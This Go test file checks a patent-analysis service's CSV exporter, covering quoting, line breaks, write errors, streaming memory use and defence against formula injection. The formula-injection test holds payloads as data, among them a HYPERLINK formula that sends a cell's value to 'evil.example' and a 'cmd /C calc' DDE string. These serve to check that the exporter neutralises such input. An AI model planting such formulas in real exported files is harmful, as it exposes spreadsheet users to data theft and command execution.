package export_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"io"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/gatewayapis/patentsvc/internal/export"
	"github.com/gatewayapis/patentsvc/internal/patent"
)

func TestCSV(t *testing.T) {
	berlin := time.FixedZone("CET", 3600)
	records := []patent.AnalysisRecord{
		{
			CompanyName:  "Acme Corp",
			AnalysisType: patent.AnalysisPortfolio,
			Model:        "openai/gpt-4o-mini",
			Response:     "Plain text, with commas, and \"double quotes\" and 'single'.",
			Timestamp:    time.Date(2025, 3, 4, 6, 7, 8, 999_000_000, berlin),
		},
		{
			CompanyName:  "Acme Corp",
			AnalysisType: patent.AnalysisSinglePatent,
			PatentID:     "US10906193B2",
			Model:        "", // an empty model is an empty field
			Response:     "Line one\nLine two\n\nAfter a blank line; ends with a newline\n",
			Timestamp:    time.Date(2025, 3, 3, 23, 59, 59, 0, time.UTC),
		},
		{
			CompanyName:  "AT&T Inc.",
			AnalysisType: patent.AnalysisPortfolio,
			Model:        "anthropic/claude-3.5-sonnet",
			Response:     "Unicode: 特許 — Ünïcödé — 🚀, <tags> & entities &amp; \"quoted, with comma\"",
			Timestamp:    time.Date(2025, 1, 2, 3, 4, 5, 0, time.UTC),
		},
		{
			CompanyName:  "Empty Co",
			AnalysisType: patent.AnalysisPortfolio,
			Model:        "m",
			Response:     "", // and no timestamp
		},
		{
			CompanyName:  "Quote Co",
			AnalysisType: patent.AnalysisPortfolio,
			Model:        "m",
			Response:     `"starts and ends with quotes"`,
			Timestamp:    time.Date(2024, 12, 31, 0, 0, 0, 0, time.UTC),
		},
	}
	want := [][]string{
		{"company_name", "analysis_type", "model", "analysis", "timestamp"},
		{"Acme Corp", "portfolio", "openai/gpt-4o-mini", records[0].Response, "2025-03-04T05:07:08Z"},
		{"Acme Corp", "single_patent", "", records[1].Response, "2025-03-03T23:59:59Z"},
		{"AT&T Inc.", "portfolio", "anthropic/claude-3.5-sonnet", records[2].Response, "2025-01-02T03:04:05Z"},
		{"Empty Co", "portfolio", "m", "", ""},
		{"Quote Co", "portfolio", "m", records[4].Response, "2024-12-31T00:00:00Z"},
	}

	var buf bytes.Buffer
	n, err := export.CSV(&buf, rowsOf(records...))
	if err != nil {
		t.Fatalf("CSV: %v", err)
	}
	if n != len(records) {
		t.Errorf("CSV returned %d rows, want %d", n, len(records))
	}
	if header := "company_name,analysis_type,model,analysis,timestamp\r\n"; !strings.HasPrefix(buf.String(), header) {
		t.Errorf("CSV starts %q, want header %q", buf.String()[:min(buf.Len(), len(header))], header)
	}
	if !strings.HasSuffix(buf.String(), "\r\n") {
		t.Errorf("CSV does not end in CRLF: %q", buf.String()[max(0, buf.Len()-20):])
	}

	rd := csv.NewReader(&buf)
	rd.FieldsPerRecord = 5
	got, err := rd.ReadAll()
	if err != nil {
		t.Fatalf("parse CSV back: %v", err)
	}
	if len(got) != len(want) {
		t.Fatalf("parsed %d records, want %d", len(got), len(want))
	}
	for i := range want {
		for j := range want[i] {
			if got[i][j] != want[i][j] {
				t.Errorf("record %d field %s = %q, want %q", i, want[0][j], got[i][j], want[i][j])
			}
		}
	}
}

func TestCSVCarriageReturns(t *testing.T) {
	// A CR would be dropped by encoding/csv (UseCRLF) and CRLF read back
	// as LF; both become LF so that every line break survives.
	for _, tt := range []struct {
		name, text, want string
	}{
		{"crlf", "one\r\ntwo\r\n", "one\ntwo\n"},
		{"lone cr", "one\rtwo", "one\ntwo"},
		{"mixed", "a\r\n\rb\nc", "a\n\nb\nc"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var buf bytes.Buffer
			rec := patent.AnalysisRecord{CompanyName: "Acme Corp", Response: tt.text}
			if _, err := export.CSV(&buf, rowsOf(rec)); err != nil {
				t.Fatalf("CSV: %v", err)
			}
			got, err := csv.NewReader(&buf).ReadAll()
			if err != nil {
				t.Fatalf("parse CSV back: %v", err)
			}
			if got[1][3] != tt.want {
				t.Errorf("analysis of %q read back as %q, want %q", tt.text, got[1][3], tt.want)
			}
		})
	}
}

// TestCSVFormulaInjection: a text cell that starts like a formula is
// written with a leading "'" (OWASP), in every text column; one that only
// contains such characters later is not; the file still parses as RFC 4180
// and reads back as the quote and the value.
func TestCSVFormulaInjection(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, `'=HYPERLINK("http://evil.example/?"&A1,"Click")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"- a Markdown list", "'- a Markdown list"},
		{"@SUM(1,2)", "'@SUM(1,2)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\n=1+1"},
		{"a = b + c - d @ e", "a = b + c - d @ e"},
		{"", ""},
		{"'already quoted", "'already quoted"},
	} {
		var buf bytes.Buffer
		rec := patent.AnalysisRecord{CompanyName: tt.in, AnalysisType: tt.in, Model: tt.in, Response: tt.in}
		if _, err := export.CSV(&buf, rowsOf(rec)); err != nil {
			t.Fatalf("CSV: %v", err)
		}
		got, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatalf("%q: parse CSV back: %v", tt.in, err)
		}
		for col := range 4 {
			if got[1][col] != tt.want {
				t.Errorf("%q in column %d read back as %q, want %q", tt.in, col, got[1][col], tt.want)
			}
		}
	}
}

func TestCSVEmpty(t *testing.T) {
	var buf bytes.Buffer
	n, err := export.CSV(&buf, rowsOf())
	if err != nil || n != 0 {
		t.Fatalf("CSV(no rows) = %d, %v; want 0, nil", n, err)
	}
	if got, want := buf.String(), "company_name,analysis_type,model,analysis,timestamp\r\n"; got != want {
		t.Errorf("CSV(no rows) wrote %q, want %q", got, want)
	}
}

func TestCSVRowsError(t *testing.T) {
	errCursor := errors.New("cursor broke")
	rec := patent.AnalysisRecord{CompanyName: "Acme Corp", Response: "x"}
	rows := func(yield func(patent.AnalysisRecord) error) error {
		for range 2 {
			if err := yield(rec); err != nil {
				return err
			}
		}
		return errCursor
	}
	n, err := export.CSV(io.Discard, rows)
	if !errors.Is(err, errCursor) {
		t.Errorf("CSV error = %v, want %v", err, errCursor)
	}
	if n != 2 {
		t.Errorf("CSV returned %d rows, want 2", n)
	}
}

func TestCSVWriteError(t *testing.T) {
	text := strings.Repeat("An analysis, \"quoted\". ", 40)
	for _, tt := range []struct {
		name  string
		limit int
	}{
		{"header", 10},
		{"rows", 64 << 10},
	} {
		t.Run(tt.name, func(t *testing.T) {
			yielded := 0
			inner := generatedRows(100_000, text, nil)
			rows := func(yield func(patent.AnalysisRecord) error) error {
				return inner(func(r patent.AnalysisRecord) error {
					yielded++
					return yield(r)
				})
			}
			n, err := export.CSV(&failingWriter{limit: tt.limit}, rows)
			if !errors.Is(err, errWrite) {
				t.Fatalf("CSV error = %v, want %v", err, errWrite)
			}
			// The export stops soon after the writer fails, not at the end.
			if yielded > 2*256+100 {
				t.Errorf("CSV went on for %d rows after the writer failed", yielded)
			}
			if n > yielded {
				t.Errorf("CSV returned %d rows, more than the %d yielded", n, yielded)
			}
		})
	}
}

func TestCSVErrorIgnoredByRows(t *testing.T) {
	// A Rows that ignores yield's error must not make CSV report success.
	rec := patent.AnalysisRecord{CompanyName: "Acme Corp", Response: strings.Repeat("x", 1000)}
	calls := 0
	rows := func(yield func(patent.AnalysisRecord) error) error {
		for range 1000 {
			calls++
			_ = yield(rec)
		}
		return nil
	}
	_, err := export.CSV(&failingWriter{limit: 8 << 10}, rows)
	if !errors.Is(err, errWrite) {
		t.Errorf("CSV error = %v, want %v", err, errWrite)
	}
	if calls != 1000 {
		t.Errorf("rows called yield %d times, want 1000", calls)
	}
}

// analysisText is a realistic analysis of about 1.5 KB, with commas,
// quotes and line breaks so that every row takes encoding/csv's quoting
// path.
var analysisText = strings.Repeat("The portfolio, filed 2023-2025, centres on \"battery chemistry\" claims.\n", 20)

func TestCSVMemoryFlat(t *testing.T) {
	if testing.Short() {
		t.Skip("writes 100,000 rows (about 150 MB of CSV)")
	}
	const rows = 100_000
	const bound = 50 << 20
	hp := newHeapPeak()
	var out countingWriter
	n, err := export.CSV(&out, generatedRows(rows, analysisText, hp.sample))
	hp.sample()
	if err != nil || n != rows {
		t.Fatalf("CSV = %d, %v; want %d, nil", n, err, rows)
	}
	// Buffering the whole export would need out.n bytes (about 150 MB); a
	// stream keeps a few kilobytes plus the garbage the collector has not
	// reached yet.
	t.Logf("%d rows, %.1f MB of CSV, peak heap growth %.2f MB", rows, float64(out.n)/(1<<20), float64(hp.growth())/(1<<20))
	if out.n < 2*bound {
		t.Fatalf("the test writes only %d bytes: too little to tell streaming from buffering", out.n)
	}
	if hp.growth() > bound {
		t.Errorf("heap grew by %d bytes while writing %d rows, want under %d", hp.growth(), rows, bound)
	}
}

func BenchmarkCSV100k(b *testing.B) {
	const rows = 100_000
	var out countingWriter
	if _, err := export.CSV(&out, generatedRows(rows, analysisText, nil)); err != nil {
		b.Fatal(err)
	}
	b.SetBytes(out.n)
	b.ReportAllocs()
	var growth uint64
	for b.Loop() {
		hp := newHeapPeak()
		if _, err := export.CSV(io.Discard, generatedRows(rows, analysisText, hp.sample)); err != nil {
			b.Fatal(err)
		}
		hp.sample()
		growth = max(growth, hp.growth())
	}
	b.ReportMetric(float64(growth), "peak-heap-B")
}

func TestCSVColumnsAreTheHeader(t *testing.T) {
	// Every record has exactly as many fields as the header.
	var buf bytes.Buffer
	if _, err := export.CSV(&buf, generatedRows(3, "a,b\n\"c\"", nil)); err != nil {
		t.Fatal(err)
	}
	rd := csv.NewReader(&buf)
	got, err := rd.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, rec := range got {
		if len(rec) != 5 {
			t.Errorf("record %d has %d fields, want 5", i, len(rec))
		}
	}
	if !slices.Equal(got[0], []string{"company_name", "analysis_type", "model", "analysis", "timestamp"}) {
		t.Errorf("header = %q", got[0])
	}
}
